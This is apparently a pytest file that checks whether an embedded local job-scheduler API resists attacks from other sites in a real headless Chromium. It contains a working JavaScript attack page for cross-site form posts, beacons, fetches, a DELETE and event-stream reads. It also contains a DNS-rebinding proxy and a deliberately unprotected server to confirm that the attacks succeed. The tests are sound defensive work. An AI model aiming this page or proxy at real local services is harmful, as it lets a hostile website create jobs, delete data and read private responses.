"""A page of another site, in a real Chromium, can neither read nor change anything on loopback.

The page tries forms, simple requests, requests with preflight, beacons and event streams; from its
own origin, and as the same origin after DNS rebinding. A server without the checks shows that each
of these attacks succeeds without protection.
"""

import asyncio
import contextlib
import shutil
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import aiohttp
import msgspec
import pytest
from aiohttp import web

from stromboli.embedded import system

pytestmark = [pytest.mark.real]

BROWSERS = ("chromium", "chromium-browser", "google-chrome", "chrome")
SITE = "evil.example"
WITHIN_S = 120.0
JOBS = "/v1/namespaces/default/jobs"
CONTAINER = {"name": "c", "image": "busybox", "command": ["true"]}
TASK = {"name": "t", "replicas": 1, "template": {"spec": {"containers": [CONTAINER]}}}
JOB = {"metadata": {"generateName": "drive-by-"}, "spec": {"minAvailable": 1, "tasks": [TASK]}}
WRITES = ("simple", "json", "form", "beacon")
"""The attacks that would make a job."""

PAGE = """<!doctype html><title>harmless</title><body><script>
const told = {}, jobs = TARGET + "JOBS", body = JSON.stringify(JOB);
const plain = {method: "POST", body, headers: {"content-type": "text/plain"}};
async function attack(name, work) {
  try { told[name] = await work() } catch (error) { told[name] = "blocked: " + error }
}
function form() {
  const frame = document.createElement("iframe"), form = document.createElement("form");
  frame.name = form.target = "f"; form.method = "post"; form.enctype = "text/plain";
  form.action = jobs;
  const field = document.createElement("input");
  field.name = body.slice(0, -1) + ', "x": "'; field.value = '"}';
  form.append(field); document.body.append(frame, form); form.submit();
  return new Promise(done => { frame.onload = () => done("sent"); setTimeout(done, 3000, "late") })
}
function stream() {
  return new Promise(done => {
    const source = new EventSource(TARGET + "/v1/watch/queues");
    source.onmessage = event => { source.close(); done("read " + event.data) };
    source.addEventListener("ADDED", event => { source.close(); done("read " + event.data) });
    source.onerror = () => { source.close(); done("blocked: stream") };
  })
}
const read = async answer => answer.status + " " + await answer.text();
(async () => {
  await attack("simple", async () => (await fetch(jobs, {...plain, mode: "no-cors"})).type);
  await attack("form", form);
  await attack("beacon", async () => navigator.sendBeacon(jobs, body));
  await attack("json", async () => read(await fetch(jobs,
    {...plain, headers: {"content-type": "application/json"}})));
  await attack("read", async () => read(await fetch(TARGET + "/v1/queues")));
  await attack("ready", async () => read(await fetch(TARGET + "/readyz")));
  await attack("delete", async () => read(await fetch(TARGET + "/v1/queues/kept",
    {method: "DELETE"})));
  await attack("stream", stream);
  await fetch("/report", {method: "POST", body: JSON.stringify(told)});
})()
</script>"""


class Site:
    """The foreign site: serves the page and receives the results of its attacks. It forwards other
    requests to its name to ``rebound``, byte for byte, as after DNS rebinding.
    """

    def __init__(self, target: str, rebound: str = "") -> None:
        names = {"TARGET": f'"{target}"', "JOBS": JOBS, "JOB": msgspec.json.encode(JOB).decode()}
        self._page = PAGE
        for name, value in names.items():
            self._page = self._page.replace(name, value)
        self._rebound = rebound
        self.report: asyncio.Future[dict[str, Any]] = asyncio.get_running_loop().create_future()

    async def answer(self, request: web.Request) -> web.StreamResponse:
        if request.path == "/":
            return web.Response(text=self._page, content_type="text/html")
        if request.path == "/report":
            self.report.set_result(msgspec.json.decode(await request.read()))
            return web.Response()
        if not self._rebound:
            return web.Response(status=404)
        async with (
            aiohttp.ClientSession() as session,
            session.request(
                request.method,
                self._rebound + request.path_qs,
                headers=request.headers,  # also Host: the connection alone went elsewhere
                data=await request.read(),
            ) as answer,
        ):
            kind = answer.headers.get("content-type", "text/plain")
            return web.Response(
                status=answer.status, body=await answer.read(), headers={"content-type": kind}
            )


class UnprotectedServer:
    """A server without rules: what reaches it is taken for granted."""

    def __init__(self) -> None:
        self.jobs: list[str] = []

    async def answer(self, request: web.Request) -> web.StreamResponse:
        if request.method == "POST":
            self.jobs.append(request.headers.get("content-type", ""))
        return web.json_response({"items": ["secret"]})


@contextlib.asynccontextmanager
async def serve(answer: Any) -> AsyncIterator[int]:
    """A web server on loopback; its port."""
    app = web.Application()
    app.router.add_route("*", "/{path:.*}", answer)
    runner = web.AppRunner(app)
    await runner.setup()
    try:
        await web.TCPSite(runner, "127.0.0.1", 0).start()
        yield runner.addresses[0][1]
    finally:
        await runner.cleanup()


async def browser_reports(site: Site, port: int, folder: Path) -> dict[str, Any]:
    """The report of the page in a browser."""
    browser = next(filter(None, map(shutil.which, BROWSERS)), None)
    assert browser, "there is no Chromium here: run `make real-tools` as root, or install it"
    process = await asyncio.create_subprocess_exec(
        browser,
        "--headless=new",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-dev-shm-usage",
        "--no-first-run",
        "--no-proxy-server",
        f"--user-data-dir={folder / 'profile'}",
        f"--host-resolver-rules=MAP {SITE} 127.0.0.1",
        "--remote-debugging-port=0",  # a headless browser without one ends with its first page
        f"http://{SITE}:{port}/",
        stdout=asyncio.subprocess.DEVNULL,
        stderr=asyncio.subprocess.DEVNULL,
    )
    try:
        async with asyncio.timeout(WITHIN_S):
            return await site.report
    finally:
        process.terminate()
        await process.wait()


@pytest.fixture
async def running(tmp_path: Path) -> AsyncIterator[system.System]:
    async with system.run_system(system.Options(state=tmp_path / "embedded")) as made:
        await made.ready()
        async with made.client() as client:
            answer = await client.post("/v1/queues", json={"metadata": {"name": "kept"}})
            assert answer.is_success, answer.text
        yield made


async def unchanged(running: system.System) -> bool:
    async with running.client() as client:
        jobs = (await client.get("/v1/jobs")).json()["items"]
        kept = await client.get("/v1/queues/kept")
    return jobs == [] and kept.status_code == 200


async def test_each_attack_succeeds_on_an_unprotected_server(tmp_path: Path) -> None:
    """Otherwise the tests below would prove nothing."""
    victim = UnprotectedServer()
    async with serve(victim.answer) as port:
        site = Site(f"http://127.0.0.1:{port}")
        async with serve(site.answer) as own:
            await browser_reports(site, own, tmp_path)
        assert [kind.partition(";")[0] for kind in victim.jobs] == ["text/plain"] * 3
        site = Site("", rebound=f"http://127.0.0.1:{port}")
        async with serve(site.answer) as own:
            reported = await browser_reports(site, own, tmp_path)
        assert reported["read"] == '200 {"items": ["secret"]}'


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost"])
async def test_a_page_of_another_site_reads_and_changes_nothing(
    running: system.System, name: str, tmp_path: Path
) -> None:
    site = Site(running.url.replace("127.0.0.1", name))
    async with serve(site.answer) as port:
        reported = await browser_reports(site, port, tmp_path)
    assert await unchanged(running), reported
    for attack in ("json", "read", "ready", "delete", "stream"):
        assert reported[attack].startswith("blocked: "), reported


async def test_dns_rebinding_reads_and_changes_nothing(
    running: system.System, tmp_path: Path
) -> None:
    site = Site("", rebound=running.url)
    async with serve(site.answer) as port:
        reported = await browser_reports(site, port, tmp_path)
    assert await unchanged(running), reported
    for attack in ("json", "read", "ready", "delete"):
        assert reported[attack].startswith("421 "), reported
    assert reported["stream"].startswith("blocked: "), reported
